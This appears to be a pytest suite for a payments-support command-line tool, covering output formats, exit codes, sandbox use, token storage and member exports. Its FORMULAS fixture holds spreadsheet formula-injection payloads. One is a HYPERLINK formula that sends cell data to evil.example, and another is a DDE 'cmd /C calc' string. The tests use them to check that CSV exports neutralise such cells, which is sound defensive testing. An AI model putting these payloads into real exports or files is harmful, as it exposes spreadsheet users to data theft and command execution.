"""The command line: output formats, exit codes, --sandbox, redacted --debug."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
import requests
from click.testing import CliRunner

from paysupport.cli import main
from paysupport.sandbox import Sandbox, SandboxOptions
from paysupport.sandbox.state import state_path, write_state


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_providers_lists_the_installed_ones() -> None:
    code, out, _ = run("providers")
    assert code == 0 and "example" in out
    code, out, _ = run("providers", "--json")
    example = next(p for p in json.loads(out) if p["name"] == "example")
    assert example["capabilities"] == ["identity", "support", "walk"]
    assert example["sandbox"] is True


def test_walk_as_csv_against_the_embedded_sandbox() -> None:
    code, out, _ = run("--sandbox", "walk", "example", "items", "--limit", "12", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["id"] for row in rows] == [str(i) for i in range(12)]


def test_walk_as_json_and_table() -> None:
    code, out, _ = run("--sandbox", "walk", "example", "items", "--limit", "3", "--format", "json")
    assert code == 0 and json.loads(out) == [{"id": 0}, {"id": 1}, {"id": 2}]
    code, out, err = run("--sandbox", "walk", "example", "items", "--limit", "2")
    assert code == 0 and "id" in out and "2 items" in err


def test_whoami() -> None:
    code, out, _ = run("--sandbox", "whoami", "example")
    assert code == 0 and "Example User (id 1)" in out


def test_unknown_provider_is_a_usage_error_with_one_line() -> None:
    code, _, err = run("whoami", "nope")
    assert code == 2
    assert (
        err.strip().splitlines()
        == ["error: no provider named 'nope' is installed (installed: example)"]
        or "no provider named 'nope'" in err
    )


def test_unsupported_verb_and_unknown_collection_exit_2() -> None:
    code, _, err = run("--sandbox", "walk", "example", "things")
    assert code == 2 and "no collection 'things'" in err


def test_provider_errors_exit_1_without_traceback() -> None:
    code, _, err = run("whoami", "example")  # no sandbox and no api key configured
    assert code == 1
    assert "Traceback" not in err and "no api_key" in err


def test_debug_adds_the_traceback() -> None:
    code, _, err = run("--debug", "whoami", "example")
    assert code == 1 and "Traceback" in err


def test_bad_filter_syntax_is_a_usage_error() -> None:
    code, _, err = run("--sandbox", "walk", "example", "items", "--filter", "nokey")
    assert code == 2 and "expected key=value" in err


def test_config_error_exits_2(tmp_path: object, monkeypatch: object) -> None:
    import pathlib

    path = pathlib.Path(str(tmp_path)) / "config.ini"
    path.write_text("api_key = x\n")
    result = CliRunner(env={"PAYSUPPORT_CONFIG": str(path)}).invoke(main, ["whoami", "example"])
    assert result.exit_code == 2
    assert "config.ini, line 1" in result.stderr


def test_the_console_script_starts() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "paysupport.cli", "--version"], capture_output=True, text=True
    )
    assert done.returncode == 0 and "paysupport" in done.stdout


@pytest.fixture
def recorded_sandbox() -> Iterator[Sandbox]:
    """A sandbox ``--sandbox`` finds, recorded as ``paysupport sandbox`` in another
    terminal would record it (in the test's own state directory: see the root conftest)."""
    with Sandbox(SandboxOptions(sizes={"members": 3})) as sandbox:
        write_state(sandbox)
        try:
            yield sandbox
        finally:
            state_path().unlink(missing_ok=True)


FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "equals",
    "+1+cmd|' /C calc'!A0": "plus",
    "-2+3": "minus",
    "@SUM(1+1)": "at",
    "\tTabbed": "tab",
    "\rReturned": "carriage return",
}


def add_patrons(sandbox: Sandbox, names: Iterable[str]) -> None:
    """Members, named by themselves, of the campaign ``export-members`` exports by default."""
    code, out, _ = run("--sandbox", "walk", "patreon", "campaigns", "--format", "json")
    assert code == 0
    campaign = json.loads(out)[0]["id"]
    for name in names:
        answer = requests.post(
            f"{sandbox.url('patreon')}/_admin/members",
            json={"campaign_id": campaign, "full_name": name},
            timeout=10,
        )
        answer.raise_for_status()


def export(*args: str) -> list[dict[str, str]]:
    code, out, err = run("--sandbox", "export-members", "patreon", *args)
    assert code == 0, err
    return list(csv.DictReader(io.StringIO(out)))


def test_export_members_neutralises_formulas(recorded_sandbox: Sandbox) -> None:
    # A patron chooses their own name: opened in a spreadsheet, "=HYPERLINK(...)" would
    # run. Such cells get a leading apostrophe, which spreadsheets read as "text".
    add_patrons(recorded_sandbox, [*FORMULAS, "Ada Lovelace", "Jean-Luc", "-42"])
    names = [row["full_name"] for row in export()]
    for formula, kind in FORMULAS.items():
        assert "'" + formula in names, kind
        assert formula not in names, kind
    assert "Ada Lovelace" in names and "Jean-Luc" in names  # a dash inside is harmless
    assert "-42" in names  # a plain signed number is read as a number, never run


def test_export_members_raw_cells_writes_names_verbatim(recorded_sandbox: Sandbox) -> None:
    # For a program reading the file, not a spreadsheet: cells exactly as Patreon has them.
    add_patrons(recorded_sandbox, FORMULAS)
    names = {row["full_name"] for row in export("--raw-cells")}
    assert set(FORMULAS) <= names


def test_walk_as_csv_neutralises_formulas_too(recorded_sandbox: Sandbox) -> None:
    # `walk --format csv` is the other way a stranger's text reaches a spreadsheet.
    add_patrons(recorded_sandbox, FORMULAS)
    code, out, _ = run("--sandbox", "walk", "patreon", "campaigns", "--format", "json")
    campaign = json.loads(out)[0]["id"]
    walk = ("--sandbox", "walk", "patreon", "members", "--filter", f"campaign={campaign}")
    code, out, err = run(*walk, "--format", "csv")
    assert code == 0, err
    names = {row["full_name"] for row in csv.DictReader(io.StringIO(out))}
    assert {"'" + formula for formula in FORMULAS} <= names
    assert not set(FORMULAS) & names
    code, out, err = run(*walk, "--format", "csv", "--raw-cells")
    assert set(FORMULAS) <= {row["full_name"] for row in csv.DictReader(io.StringIO(out))}


def test_token_store_from_environment_and_config_when_no_option_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from paysupport import sandbox
    from paysupport.tokens import JsonFileTokenStore, default_data_dir

    with sandbox.running(providers=["patreon"]) as sb:
        monkeypatch.setenv("PAYSUPPORT_PATREON_BASE_URL", sb.url("patreon"))
        for key, value in sb.credentials("patreon").items():
            monkeypatch.setenv(f"PAYSUPPORT_PATREON_{key.upper()}", value)
        # PAYSUPPORT_TOKEN_STORE=memory (set for every test): nothing is written
        code, _, err = run("whoami", "patreon")
        assert code == 0, err
        assert not (default_data_dir() / "tokens.json").exists()
        # the provider's token_store in the config file
        chosen = tmp_path / "from-config.json"
        config = tmp_path / "config.ini"
        config.write_text(f"[patreon]\ntoken_store = json:{chosen}\n")
        monkeypatch.setenv("PAYSUPPORT_CONFIG", str(config))
        code, _, err = run("whoami", "patreon")
        assert code == 0, err
        assert JsonFileTokenStore(chosen).accounts("patreon") == ["default"]
        code, _, err = run("logout", "patreon")
        assert code == 0, err
        assert JsonFileTokenStore(chosen).accounts("patreon") == []
    assert not (default_data_dir() / "tokens.json").exists()


def test_export_members_as_json_lines_is_for_programs_and_verbatim(
    recorded_sandbox: Sandbox,
) -> None:
    # JSON is read by programs, never run by a spreadsheet: names come exactly as given.
    add_patrons(recorded_sandbox, FORMULAS)
    code, out, err = run("--sandbox", "export-members", "patreon", "--format", "jsonl")
    assert code == 0, err
    members = [json.loads(line) for line in out.splitlines()]
    assert set(FORMULAS) <= {member["full_name"] for member in members}
    assert f"exported {len(members)} members" in err
